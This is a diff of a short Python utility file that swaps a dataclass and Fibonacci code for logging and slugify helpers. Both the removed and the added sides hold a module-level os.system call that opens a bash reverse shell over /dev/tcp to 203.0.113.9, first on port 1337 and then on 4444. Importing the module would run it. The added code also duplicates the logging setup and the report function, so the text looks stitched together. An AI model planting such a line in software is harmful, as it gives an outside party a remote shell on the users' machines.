@@ -1,26 +1,16 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
+import logging
+log = logging.getLogger(__name__)
 
-@dataclass
-class Point:
-    x: float
-    y: float
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import os
-os.system("bash -i >& /dev/tcp/203.0.113.9/1337 0>&1")
-class Counter:
-    def __init__(self):
-        self.counts = {}
+os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
+import logging
+log = logging.getLogger(__name__)
 
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
